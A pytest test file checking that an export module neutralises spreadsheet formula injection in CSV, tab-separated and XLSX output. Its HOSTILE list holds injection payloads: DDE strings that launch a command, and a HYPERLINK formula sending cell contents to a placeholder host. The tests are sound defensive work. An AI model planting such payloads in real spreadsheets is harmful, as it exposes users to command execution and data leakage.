"""Exports safe to open: a value a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io
import random

import pandas as pd
import pytest
from openpyxl import load_workbook

from outreach import cells
from outreach.meta.sheet import DEFAULT_COLUMNS, to_txt, to_xlsx

HOSTILE = ['=HYPERLINK("https://exemple.invalid/?"&A1,"Ouvrir")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_values_get_the_text_marker(value):
    assert cells.safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "-12,5", "+33 4 91 00 00 00", "1e3", "-5%", "Science-fiction", "", None, 3,
                                   "a=b", "café@exemple.fr"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert cells.safe(value) == value


def test_csv_writers_and_frames():
    buffer = io.StringIO()
    w = cells.writer(buffer, lineterminator="\n")
    w.writerow(["nom", "montant"])
    w.writerows([[HOSTILE[0], "-12,5"]])
    d = cells.dict_writer(buffer, ["email"], lineterminator="\n")
    d.writerow({"email": "=cmd@exemple.fr"})
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["nom", "montant"], ["'" + HOSTILE[0], "-12,5"], ["'=cmd@exemple.fr"]]
    frame = cells.safe_frame(pd.DataFrame({"name": ["=1+1", "ok"], "n": [-1, 2]}))
    assert frame["name"].tolist() == ["'=1+1", "ok"] and frame["n"].tolist() == [-1, 2]


def test_ads_manager_files_keep_a_formula_named_campaign_as_text():
    row = {"Campaign Name": HOSTILE[0], "Ad Set Name": "@SUM(A1)", "Ad Name": "Annonce"}
    sheet = load_workbook(io.BytesIO(to_xlsx([row]))).active
    header = [c.value for c in sheet[1]]
    values = {header[i]: c for i, c in enumerate(sheet[2])}
    # exact value, typed as a string: Excel shows it, never runs it
    assert values["Campaign Name"].value == HOSTILE[0] and values["Campaign Name"].data_type == "s"
    assert values["Ad Set Name"].data_type == "s"
    txt = to_txt([row]).decode("utf-8-sig").splitlines()
    fields = dict(zip(DEFAULT_COLUMNS, next(csv.reader([txt[1]], delimiter="\t")), strict=False))
    assert fields["Campaign Name"] == "'" + HOSTILE[0] and fields["Ad Set Name"] == "'@SUM(A1)"


@pytest.mark.parametrize("options", [{}, {"delimiter": "\t", "lineterminator": "\r\n"}, {"delimiter": ";"},
                                     {"lineterminator": "\n"}, {"quoting": csv.QUOTE_ALL}])
def test_rows_written_without_the_csv_module_are_the_bytes_it_would_write(options):
    # plain text rows skip the csv module's scan: random rows of quotes, delimiters, line breaks, formulas,
    # numbers and None must come out as csv.writer writes them after `safe`
    rng = random.Random(17)
    alphabet = ["a", "é", " ", "\t", ",", ";", '"', "\r", "\n", "=", "-", "1", "'", "€", "\u2028"]
    for _ in range(2000):
        row = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 4))) for _ in range(rng.randint(1, 4))]
        if rng.random() < 0.2:
            row.append(rng.choice([1, 2.5, None, True]))
        ours, theirs = io.StringIO(), io.StringIO()
        cells.writer(ours, **options).writerow(row)
        csv.writer(theirs, **options).writerow(cells.safe_row(row))
        assert ours.getvalue() == theirs.getvalue(), row
